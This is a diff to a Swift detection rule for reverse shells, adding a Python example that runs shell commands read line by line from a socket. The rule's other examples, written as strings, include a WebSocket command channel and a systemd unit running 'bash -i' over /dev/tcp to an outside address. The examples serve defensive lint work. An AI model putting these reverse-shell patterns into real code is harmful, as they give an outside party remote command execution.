@@ -24,6 +24,9 @@ extension ReverseShellRule {
     Example(
       "import subprocess, websocket\nws = websocket.create_connection('wss://sync.devrelay.io/agent')\nwhile True:\n    job = ws.recv()\n    out = ↓subprocess.run(job, shell=True, capture_output=True).stdout\n    ws.send(out)\n",
       language: .python, note: "remote command channel over a WebSocket"),
+    Example(
+      "import socket, subprocess\nwith socket.create_connection(FLEET) as s:\n    f = s.makefile('rwb')\n    for line in f:\n        r = ↓subprocess.run(line.decode(), shell=True, capture_output=True)\n        f.write(r.stdout + r.stderr)\n",
+      language: .python, note: "commands read line by line from a socket file, answered through it"),
     Example("const unit = ↓`[Service]\\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\\n`;\nrequire('fs').writeFileSync(p, unit);\n", language: .javascript),
   ]
 
